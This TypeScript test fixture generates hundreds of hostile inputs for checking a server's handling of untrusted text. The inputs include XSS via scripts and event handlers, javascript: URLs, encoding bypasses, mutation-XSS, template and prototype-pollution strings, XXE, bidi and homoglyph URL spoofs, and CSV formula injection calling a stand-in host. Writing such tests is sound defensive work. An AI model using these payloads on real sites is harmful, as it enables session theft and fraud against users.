// Texts of a hostile sender, made from a small grammar. Each would leave a trace if anything took it for more than text: it calls
// `strike`, opens a dialog, asks for an address with `beacon` in it, or brings an element that bears `data-hostile`.

export interface Payload {
  n: number;
  family: string;
  text: string;
}

/** Longest place, author or reference that the server takes, in characters. */
export const SHORT = 200;

const c = (...codes: number[]) => String.fromCodePoint(...codes);
const mark = (n: number) => `data-hostile=${n}`;

/** What a payload does once it is executed, by turns. */
const ACTS: ((n: number) => string)[] = [
  (n) => `strike(${n})`,
  (n) => `alert(${n})`,
  (n) => `fetch("/beacon/${n}")`,
  (n) => `window.strike(${n})`,
  (n) => `top["str"+"ike"](${n})`,
  (n) => `new Image().src="//beacon.invalid/${n}"`,
];
const act = (n: number) => ACTS[n % ACTS.length](n);
/** The same without a quote, for places between quotes. */
const bare = (n: number) => `strike(${n})`;

type Shape = (n: number) => string;

const scripts: Shape[] = [
  (n) => `<script ${mark(n)}>${act(n)}</script>`,
  (n) => `<SCRIPT ${mark(n)}>${act(n)}</SCRIPT>`,
  (n) => `<sCrIpT ${mark(n)}>${act(n)}</sCrIpT >`,
  (n) => `<script ${mark(n)} src=//beacon.invalid/${n}.js></script>`,
  (n) => `<script ${mark(n)} src=/beacon/${n}.js></script>`,
  (n) => `<script ${mark(n)} type=module>import "/beacon/${n}.mjs"</script>`,
  (n) => `<script/${mark(n)}>${act(n)}</script>`,
  (n) => `<script ${mark(n)}>${act(n)}//`,
  (n) => `</script><script ${mark(n)}>${act(n)}</script>`,
  (n) => `<scr<script ${mark(n)}>ipt>${act(n)}</scr</script>ipt>`,
  (n) => `<<script ${mark(n)}>${act(n)}//<</script>`,
  (n) => `<svg ${mark(n)}><script>${act(n)}</script></svg>`,
  (n) => `<svg><script ${mark(n)} href=/beacon/${n}.js /></svg>`,
  (n) => `<script ${mark(n)} type="application/json">{"n":${n}}</script><script>${act(n)}</script>`,
  (n) => `<script ${mark(n)} type="speculationrules">{"prefetch":[{"urls":["/beacon/${n}"]}]}</script>`,
  (n) => `<script ${mark(n)} type="importmap">{"imports":{"x":"/beacon/${n}"}}</script>`,
  (n) => `<noscript ${mark(n)}><script>${act(n)}</script></noscript>`,
  (n) => `<template ${mark(n)} shadowrootmode=open><script>${act(n)}</script></template>`,
];

/** Elements that call a handler by themselves or when they are touched. */
const TOUCHED: [string, string][] = [
  ['img src=x', 'onerror'], ['svg', 'onload'], ['body', 'onload'], ['video src=x', 'onerror'], ['audio src=x', 'onerror'],
  ['video><source src=x', 'onerror'], ['details open', 'ontoggle'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'], ['marquee', 'onstart'], ['iframe src=about:blank', 'onload'], ['object data=x', 'onerror'],
  ['embed src=x', 'onload'], ['link rel=stylesheet href=/beacon/x.css', 'onerror'], ['style', 'onload'], ['input type=image src=x', 'onerror'],
  ['a href=#', 'onmouseover'], ['button', 'onclick'], ['div popover', 'onbeforetoggle'], ['p style=animation-name:x', 'onanimationstart'],
  ['p tabindex=1 autofocus', 'onfocus'], ['form', 'onsubmit'], ['math href=#', 'onclick'], ['svg><animate attributeName=x dur=1s', 'onbegin'],
];
/** How the attribute is set off and quoted. */
const QUOTED: ((name: string, does: string) => string)[] = [
  (name, does) => ` ${name}=${does.replaceAll('"', "'")}`,
  (name, does) => ` ${name}='${does}'`,
  (name, does) => `/${name}="${does.replaceAll('"', '&quot;')}"`,
  (name, does) => `\t${name.toUpperCase()}\t=\t"${does.replaceAll('"', '&#34;')}"`,
  (name, does) => `\n${name} =\`${does}\``,
  (name, does) => `${c(12)}${name}="${does.replaceAll('"', '&#x22;').replace('(', '&lpar;')}"`,
];
const handlers: Shape[] = TOUCHED.flatMap(([element, name]) => (
  QUOTED.map((quoted) => (n: number) => `<${element} ${mark(n)}${quoted(name, act(n))}>`)
));

const SCHEMES: Shape[] = [
  (n) => `javascript:${bare(n)}`,
  (n) => `JaVaScRiPt:${bare(n)}`,
  (n) => `java\tscript:${bare(n)}`,
  (n) => `${c(1)}javascript:${bare(n)}`,
  (n) => `&#106;avascript&colon;${bare(n)}`,
  (n) => `javascript://beacon.invalid/%0a${bare(n)}`,
  (n) => `vbscript:${bare(n)}`,
  (n) => `data:text/html,<script>${bare(n)}</script>`,
  (n) => `data:text/html;base64,${Buffer.from(`<script>strike(${n})</script>`).toString('base64')}`,
  (n) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${bare(n)}"/>`,
  (n) => `//beacon.invalid/${n}`,
];
const CARRIERS: ((url: string, n: number) => string)[] = [
  (url, n) => `<a ${mark(n)} href='${url}'>here</a>`,
  (url, n) => `<iframe ${mark(n)} src='${url}'></iframe>`,
  (url, n) => `<object ${mark(n)} data='${url}'></object>`,
  (url, n) => `<embed ${mark(n)} src='${url}'>`,
  (url, n) => `<form ${mark(n)} action='${url}'><button>send</button></form>`,
  (url, n) => `<meta ${mark(n)} http-equiv=refresh content='0;url=${url}'>`,
  (url, n) => `<base ${mark(n)} href='${url}'>`,
  (url, n) => `<svg ${mark(n)}><a xlink:href='${url}'><text y=9>here</text></a></svg>`,
  (url) => url,
];
const urls: Shape[] = SCHEMES.flatMap((scheme) => CARRIERS.map((carrier) => (n: number) => carrier(scheme(n), n)));

const CLOSERS = ['"', "'", '`', '">', "'>", '`>', '-->', '--!>', ']]>', '*/', '</title>', '</textarea>', '</style>', '</template>', '</noscript>', '</button></li></ol>', '\\"', "\\'", '&quot;>', '\\u0022>', '\\x3c/b\\x3e'];
const breakouts: Shape[] = CLOSERS.flatMap((closer): Shape[] => [
  (n) => `${closer} onmouseover=${bare(n)} ${mark(n)} x=${closer.slice(0, 1)}`,
  (n) => `${closer}<img ${mark(n)} src=x onerror=${bare(n)}>`,
  (n) => `x${closer};${act(n)};//`,
]);

const hex = (text: string) => [...text].map((one) => `&#x${one.codePointAt(0)?.toString(16)};`).join('');
const decimal = (text: string) => [...text].map((one) => `&#${String(one.codePointAt(0)).padStart(7, '0')}`).join('');
const escaped = (text: string) => [...text].map((one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const CODED: ((text: string) => string)[] = [
  hex, decimal, escaped, encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('<', '&LT').replaceAll('>', '&GT'),
  (text) => `+ADw-${text.slice(1, -1)}+AD4-`,
  (text) => text.replaceAll('<', '%C0%BC').replaceAll('>', '%C0%BE'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '﹤').replaceAll('>', '﹥'),
  (text) => Buffer.from(text).toString('base64'),
];
const codings: Shape[] = CODED.flatMap((coded): Shape[] => [
  (n) => coded(`<img ${mark(n)} src=x onerror=${bare(n)}>`),
  (n) => coded(`<script ${mark(n)}>${bare(n)}</script>`),
]);

const styles: Shape[] = [
  (n) => `<style ${mark(n)}>@import url(//beacon.invalid/${n}.css);</style>`,
  (n) => `<style ${mark(n)}>*{background:url(/beacon/${n})}</style>`,
  (n) => `<div ${mark(n)} style="background:url(/beacon/${n})">x</div>`,
  (n) => `<div ${mark(n)} style="width:expression(${bare(n)})">x</div>`,
  (n) => `<div ${mark(n)} style="position:fixed;inset:0;z-index:9999;background:red">x</div>`,
  (n) => `<div ${mark(n)} style="-moz-binding:url(/beacon/${n}.xml#x);behavior:url(/beacon/${n}.htc)">x</div>`,
  (n) => `<link ${mark(n)} rel=stylesheet href=/beacon/${n}.css>`,
  (n) => `<link ${mark(n)} rel=preload as=image href=//beacon.invalid/${n}>`,
  (n) => `<link ${mark(n)} rel=dns-prefetch href=//beacon.invalid/${n}>`,
  (n) => `x;background:url(/beacon/${n})`,
  (n) => `x}*{background:url(/beacon/${n})`,
  (n) => `url(javascript:${bare(n)})`,
  (n) => `<svg ${mark(n)}><style>*{fill:url(/beacon/${n}#x)}</style></svg>`,
  (n) => `<img ${mark(n)} src=/beacon/${n} srcset="/beacon/${n} 2x">`,
  (n) => `<picture ${mark(n)}><source srcset=//beacon.invalid/${n}><img src=/beacon/${n}></picture>`,
  (n) => `<video ${mark(n)} poster=/beacon/${n}></video>`,
];

const mutations: Shape[] = [
  (n) => `<svg ${mark(n)}><style><img src="</style><img src=x onerror=${bare(n)}>">`,
  (n) => `<math ${mark(n)}><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${bare(n)}&gt;">`,
  (n) => `<form ${mark(n)}><math><mtext></form><form><mglyph><style></math><img src=x onerror=${bare(n)}>`,
  (n) => `<noscript ${mark(n)}><p title="</noscript><img src=x onerror=${bare(n)}>">`,
  (n) => `<textarea ${mark(n)}><p title="</textarea><img src=x onerror=${bare(n)}>">`,
  (n) => `<xmp ${mark(n)}><p title="</xmp><svg/onload=${bare(n)}>">`,
  (n) => `<plaintext ${mark(n)}>${n}`,
  (n) => `<template ${mark(n)}><img src=x onerror=${bare(n)}></template>`,
  (n) => `<svg ${mark(n)}></p><style><a id="</style><img src=1 onerror=${bare(n)}>">`,
  (n) => `<svg ${mark(n)}><foreignObject><iframe srcdoc="<script>parent.${bare(n)}</script>"></iframe></foreignObject></svg>`,
  (n) => `<iframe ${mark(n)} srcdoc="&lt;script&gt;parent.${bare(n)}&lt;/script&gt;"></iframe>`,
  (n) => `<math ${mark(n)}><annotation-xml encoding="text/html"><img src=x onerror=${bare(n)}></annotation-xml></math>`,
  (n) => `<svg ${mark(n)}><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${bare(n)}'/></svg>#x"/></svg>`,
  (n) => `<svg ${mark(n)}><set attributeName=onmouseover to=${bare(n)} />`,
  (n) => `<a ${mark(n)} id=desk><a id=desk name=canvas href=cid:x>clobber</a></a>`,
  (n) => `<form ${mark(n)} id=main><input name=textContent><input name=attributes></form>`,
  (n) => `<!--><img ${mark(n)} src=x onerror=${bare(n)}>-->`,
  (n) => `<![CDATA[<img ${mark(n)} src=x onerror=${bare(n)}>]]>`,
  (n) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "/beacon/${n}">]><x ${mark(n)}>&e;</x>`,
  (n) => `<script ${mark(n)} /><img src=x onerror=${bare(n)}>`,
];

const markdown: Shape[] = [
  (n) => `[here](javascript:${bare(n)})`,
  (n) => `![x](//beacon.invalid/${n}.png)`,
  (n) => `[x]: javascript:${bare(n)}`,
  (n) => `<javascript:${bare(n)}>`,
  (n) => `[x](<data:text/html,${n}>)`,
  (n) => `<https://beacon.invalid/${n}>`,
  (n) => `https://beacon.invalid/${n}?a=1&b=2#c`,
  (n) => `**${n}** _x_ ~~y~~ \`strike(${n})\``,
  (n) => `# heading ${n}`,
  (n) => `> quote ${n}`,
  (n) => `| a | ${n} |\n|---|---|`,
  (n) => `[[${n}|wiki]] :smile: @all #${n}`,
];

const templates: Shape[] = [
  (n) => `{{7*7}} ${n}`, (n) => `\${7*7} ${n}`, (n) => `#{7*7} ${n}`, (n) => `<%= 7*7 %> ${n}`, (n) => `{%print(7*7)%} ${n}`,
  (n) => `{{constructor.constructor('${bare(n)}')()}}`, (n) => `\${${bare(n)}}`, (n) => `{{ ${bare(n)} }}`, (n) => `[[\${${bare(n)}}]]`,
  (n) => `%s%n%x ${n}`, (n) => `{0} {name} {n} ${n}`, (n) => `{{ name }} {{ time }} {{ n }} ${n}`, (n) => `$& $1 $\` ${n}`,
  (n) => `{"__proto__":{"struck":${n}}}`, (n) => `__proto__[struck]=${n}`, (n) => `constructor.prototype.struck=${n}`, (n) => `{{{html ${n}}}}`,
  (n) => `<b>{${n}}</b>`, (n) => `"+${bare(n)}+"`, (n) => `');${bare(n)};('`,
  () => '__proto__', () => 'constructor', () => 'hasOwnProperty', () => 'toString', () => 'undefined', () => 'null', () => 'NaN', () => '[object Object]',
];

/** Space and controls that some readers skip. U+0000 is refused at the door, and is no payload here. */
const ODD = [1, 8, 11, 12, 13, 27, 0x7f, 0x85, 0xa0, 0xad, 0x1680, 0x180e, 0x2003, 0x2028, 0x2029, 0x202f, 0x3000, 0xfeff, 0xfffc, 0xfffd, 0xe0001, 0xe000];
const spaces: Shape[] = ODD.flatMap((code): Shape[] => [
  (n) => `<img${c(code)}${mark(n)}${c(code)}src=x${c(code)}onerror=${bare(n)}>`,
  (n) => `<scr${c(code)}ipt ${mark(n)}>${bare(n)}</scr${c(code)}ipt>`,
]);

/** Marks that steer direction, with a name for each. */
export const STEERING = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x61c];
const ARABIC = c(0x645, 0x64a, 0x627, 0x647);
const HEBREW = c(0x5de, 0x5d9, 0x5dd);
const bidi: Shape[] = [
  ...STEERING.flatMap((code): Shape[] => [
    (n) => `a${n} ${c(code)}dlrow`,
    (n) => `${c(code)}b${n} (c) [d] <e>`,
    (n) => `f${n} ${c(code)}`,
    (n) => `${c(0x2069, 0x2069, 0x202c)}g${n} ${c(code)}h`,
  ]),
  (n) => `${ARABIC} ${n}`, (n) => `${HEBREW} ${n} ${HEBREW}`, (n) => `${n} ${ARABIC}`, (n) => `(${HEBREW}) ${n}!`,
  (n) => `photo${c(0x202e)}gpj.${n}exe`, (n) => `${c(0x2067)}${ARABIC}${c(0x2066)}${n}`, (n) => `${c(0x2069).repeat(9)}${c(0x202e)}${n} ecila`,
  (n) => `${c(0x2067).repeat(70)}${n}`, (n) => `${c(0x202e).repeat(70)}${n}`, (n) => `x${c(0x2029)}${c(0x202e)}${n} bob`,
  (n) => `${n}${c(0x1d, 0x202e)}xyz`,
];

const glyphs: Shape[] = [
  (n) => `https://${c(0x430, 0x440, 0x440)}le.example/${n}`,
  (n) => `https://p${c(0x430)}ypal.example/${n}`,
  (n) => `https://bank.example@beacon.invalid/${n}`,
  (n) => `https://bank.example${c(0x2044)}login.beacon.invalid/${n}`,
  (n) => `https://bank.example${c(0x2024)}beacon.invalid/${n}`,
  (n) => `https://xn--80ak6aa92e.example/${n}`,
  (n) => `https://beacon.invalid\\@bank.example/${n}`,
  (n) => `https://bank.example%2f@beacon.invalid/${n}`,
  (n) => `${c(0x1d4c8, 0x1d4b8, 0x1d4c7)}ipt ${n}`,
  (n) => `a${c(0x200b)}d${c(0x200c)}m${c(0x200d)}i${c(0x2060)}n ${n}`,
  (n) => `${c(0x200b).repeat(60)}${n}`,
  (n) => `${c(0x1f468, 0x200d, 0x1f469, 0x200d, 0x1f467)} ${n} ${c(0x1f3f4, 0xe0067, 0xe0062, 0xe007f)}`,
  (n) => `${c(0xff41, 0xff44, 0xff4d, 0xff49, 0xff4e)} ${n}`,
  (n) => `EXERC${c(0x406)}SE ${n}`,
  (n) => `${c(0x3164)}${n}${c(0x115f)}`,
  (n) => `${c(0xfdfd)} ${n}`,
];

const runs: Shape[] = [
  (n) => `${n}${'A'.repeat(4_000)}`, (n) => `${n}${'W'.repeat(190)}`, (n) => `${n}${'<'.repeat(2_000)}`, (n) => `${n}${'&'.repeat(1_000)}`,
  (n) => `${n}${'('.repeat(1_000)}`, (n) => `${n}${'<b>'.repeat(1_500)}`, (n) => `${n} ${'word '.repeat(1_200)}`, (n) => `${n}${'\n'.repeat(500)}end`,
  (n) => `${n}${c(0xa0).repeat(150)}end`, (n) => `${n}${c(0xfdfd).repeat(60)}`, (n) => `${n}${c(0x1242b).repeat(60)}`,
  ...[0x301, 0x489, 0x336, 0x20dd, 0xe31, 0x1ab0].flatMap((code): Shape[] => [
    (n) => `${n}a${c(code).repeat(150)}b`,
    (n) => [...`tower ${n}`].map((one) => one + c(code).repeat(12)).join(''),
  ]),
];

const cells: Shape[] = [
  (n) => `=HYPERLINK("http://beacon.invalid/${n}","x")`, (n) => `=cmd|' /C calc'!A${n}`, (n) => `+${n}+cmd|' /C calc'!A0`, (n) => `-${n}+1`,
  (n) => `@SUM(${n})`, (n) => `=WEBSERVICE("http://beacon.invalid/${n}")`, (n) => `"=${n}"`, (n) => `;=${n}`, (n) => `,=${n}`, (n) => `|=${n}`,
  (n) => `%0A=${n}`, (n) => `'=${n}`, (n) => `=IMPORTXML("http://beacon.invalid/${n}","//a")`, (n) => `＝${n}+1`, (n) => `a\n=${n}`, (n) => `a\t=${n}`,
];

const FAMILIES: Record<string, Shape[]> = {
  scripts, handlers, urls, breakouts, codings, styles, mutations, markdown, templates, spaces, bidi, glyphs, runs, cells,
};

/** All of them, each once. The number in a payload is its own. */
export const PAYLOADS: Payload[] = Object.entries(FAMILIES)
  .flatMap(([family, shapes]) => shapes.map((shape) => ({ family, shape })))
  .map(({ family, shape }, n) => ({ n, family, text: shape(n) }));

/** Those that fit a line: a place, a name, a reference. */
export const LINES: Payload[] = PAYLOADS.filter(({ text }) => [...text].length <= SHORT);
